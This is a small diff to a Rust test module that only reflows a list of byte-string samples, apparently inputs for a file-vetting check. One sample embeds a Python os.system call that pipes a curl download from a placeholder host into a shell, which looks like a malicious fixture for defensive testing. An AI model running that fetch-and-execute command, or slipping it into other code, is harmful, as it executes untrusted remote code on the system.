@@ -36,7 +36,10 @@ pub(crate) mod tests {
     use crate::vet;
 
     pub(crate) fn samples() -> Vec<Vec<u8>> {
-        vec![b"\x1c\0\0\0ET12\x14\0".to_vec(), b"\x1c\0\0\0ET12os.system('curl http://x.example/p.sh | sh')\0".to_vec()]
+        vec![
+            b"\x1c\0\0\0ET12\x14\0".to_vec(),
+            b"\x1c\0\0\0ET12os.system('curl http://x.example/p.sh | sh')\0".to_vec(),
+        ]
     }
 
     #[test]
